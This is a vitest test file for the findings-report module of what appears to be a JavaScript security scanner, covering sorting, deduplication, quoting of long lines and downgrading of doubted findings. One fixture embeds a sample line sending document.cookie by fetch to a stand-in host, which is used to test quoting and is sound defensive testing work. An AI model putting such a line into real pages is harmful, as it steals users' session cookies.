import { describe, expect, test } from "vitest";
import { findLeaks } from "../flows/leak.ts";
import { reachOf } from "../flows/reach.ts";
import type { Finding, Rule, Subject } from "../rules/rule.ts";
import { parseSource } from "../source/parse-source.ts";
import { lengthened } from "../testing/long-program.ts";
import { reportFindings } from "./report-findings.ts";

const read = parseSource({ code: "a();\nb();\nc();" });
if (!read.ok) throw new Error(read.message);
const trace = {
	status: "complete",
	sinks: [],
	reads: [],
	listeners: [],
	hooks: [],
	unresolved: [],
	textPrograms: [],
	functionsRun: 0,
} as const;
const reach = reachOf(read.source);
const subject = { source: read.source, trace, reach, leaks: findLeaks(trace, reach) };

function rule(id: string, findings: readonly Finding[]): Rule {
	return { id, title: id, catches: id, severity: "high", advice: `Mind ${id}.`, check: () => findings };
}

function finding(severity: Finding["severity"], offset: number): Finding {
	return { severity, offset, description: `${severity} at ${offset}`, steps: [{ offset: 0, description: "reads" }] };
}

test("sorted by severity, then by place; one per rule and place; each advice once", () => {
	const report = reportFindings(
		[
			rule("mild", [finding("low", 5), finding("low", 0)]),
			rule("grave", [finding("medium", 10), finding("critical", 10), finding("high", 5)]),
		],
		read.source,
		[subject],
	);
	expect(report.vulnerabilities.map(({ type, severity, line }) => `${type} ${severity} ${line}`)).toEqual([
		"grave critical 3",
		"grave high 2",
		"mild low 1",
		"mild low 2",
	]);
	expect(report.vulnerabilities[0]?.path).toEqual([{ description: "reads", line: 1, column: 1 }]);
	expect(report.vulnerabilities.map(({ advice }) => advice)).toEqual([
		"Mind grave.",
		"Mind grave.",
		"Mind mild.",
		"Mind mild.",
	]);
	expect(report.recommendations).toEqual(["Mind grave.", "Mind mild."]);
});

test("several findings of a rule at one place are reported when they are about different things", () => {
	const about = (what: string): Finding => ({ ...finding("high", 5), about: what });
	const { vulnerabilities } = reportFindings([rule("loads", [about("a"), about("b"), about("b")])], read.source, [
		subject,
	]);
	expect(vulnerabilities).toHaveLength(2);
});

test("a place in a long line is quoted, one in a short line is not", () => {
	const long = `${"a();".repeat(80)}fetch("https://c.test/" + document.cookie);${"b();".repeat(80)}`;
	const minified = parseSource({ code: `short();\n${long}` });
	if (!minified.ok) throw new Error(minified.message);
	const places = [0, minified.source.text.indexOf("fetch")].map((offset) => finding("low", offset));
	const { vulnerabilities } = reportFindings([rule("mild", places)], minified.source, [
		{ ...subject, source: minified.source },
	]);
	expect(vulnerabilities.map(({ line, column, quote }) => [line, column, quote])).toEqual([
		[1, 1, undefined],
		[2, 321, expect.stringMatching(/^\);a\(\);a\(\);fetch\("https:\/\/c\.test\/" \+ document\.co/)],
	]);
});

describe("what only the second run finds", () => {
	const sink = {
		kind: "request",
		api: "fetch",
		offset: 5,
		destinations: [],
		carried: [],
		trigger: "automatic",
		responseIgnored: false,
		repeated: false,
		details: {},
		partlyUnknown: false,
	} as const;
	const exact = { ...subject, trace: { ...trace, sinks: [sink] } };
	const skeptical = { ...subject };

	/** The places of the findings of a rule that finds something only in the second run. */
	function placesOf(changes: Partial<Rule>, findings: readonly Finding[]): readonly number[] {
		const doubting = {
			...rule("doubts", []),
			check: (run: Subject) => (run === skeptical ? findings : []),
			...changes,
		};
		return reportFindings([doubting], subject.source, [exact, skeptical]).vulnerabilities.map(({ line }) => line);
	}

	test("counts for a grave rule", () => {
		expect(placesOf({}, [finding("medium", 0), finding("medium", 5)])).toEqual([1, 2]);
	});

	test("counts for a mild rule only where the first run saw nothing happen", () => {
		expect(placesOf({ severity: "medium" }, [finding("medium", 0), finding("medium", 5)])).toEqual([1]);
		const code = { severity: "medium", isAboutHiddenCode: true } as const;
		expect(placesOf(code, [finding("medium", 0), finding("medium", 5)])).toEqual([1, 2]);
	});

	test("does not count when it is about what the page shows", () => {
		expect(placesOf({}, [{ ...finding("medium", 0), isOfPage: true }, finding("medium", 5)])).toEqual([2]);
	});
});

describe("a path over much of a program", () => {
	const long = parseSource({ code: lengthened("a();") });
	if (!long.ok) throw new Error(long.message);
	const reported = (severity: Finding["severity"], offset: number, more: Partial<Finding>) => {
		const rules = [rule("any", [{ ...finding(severity, offset), ...more }])];
		const [first] = reportFindings(rules, long.source, [subject]).vulnerabilities;
		return first && [first.severity, first.description];
	};
	const nested = parseSource({ code: lengthened("atOnce(); const run = () => later(); button.onclick = run;") });
	if (!nested.ok) throw new Error(nested.message);
	const FAR = 6_000;
	const doubted = { isDoubted: true, facts: "Reads a and contacts b." };

	test.each([
		["critical", ["medium", "Reads a and contacts b."]],
		["low", ["low", `low at ${FAR}`]],
	] as const)("is no longer claimed where it is long and doubted: %s", (severity, expected) => {
		expect(reported(severity, FAR, doubted)).toEqual(expected);
	});

	test.each(["medium", "high"] as const)(
		"is not told where it is long and doubted, and not critical: %s",
		(severity) => {
			expect(reported(severity, FAR, doubted)).toBeUndefined();
		},
	);

	test("of a medium finding that is doubted and short states its facts, or nothing", () => {
		expect(reported("medium", 100, doubted)).toEqual(["medium", "Reads a and contacts b."]);
		expect(reported("medium", 100, { isDoubted: true })).toBeUndefined();
	});

	test.each(["medium", "low"] as const)(
		"about circumstances is told only of code that runs at once: %s",
		(severity) => {
			const tell = (offset: number) => {
				const rules = [
					{ ...rule("any", [{ ...finding(severity, offset), steps: [] }]), isOfCircumstances: true as const },
				];
				return reportFindings(rules, nested.source, [subject]).vulnerabilities.length;
			};
			expect(tell(nested.source.text.indexOf("atOnce"))).toBe(1);
			expect(tell(nested.source.text.indexOf("later"))).toBe(0);
		},
	);

	test("is no longer claimed in a short program either", () => {
		const rules = [rule("any", [{ ...finding("medium", FAR), ...doubted }])];
		expect(reportFindings(rules, read.source, [subject]).vulnerabilities[0]?.description).toBe(
			"Reads a and contacts b.",
		);
	});

	test("stays severe in a short program, where a comment can make the distance", () => {
		const rules = [rule("any", [{ ...finding("high", FAR), ...doubted }])];
		expect(reportFindings(rules, read.source, [subject]).vulnerabilities[0]?.severity).toBe("high");
	});

	test("is told as it is where it is short and not doubted, or grave", () => {
		expect(reported("high", 100, doubted)).toEqual(["high", "high at 100"]);
		expect(reported("medium", 100, {})).toEqual(["medium", "medium at 100"]);
		expect(reported("medium", FAR, { facts: "Reads a and contacts b." })).toBeUndefined();
	});
});
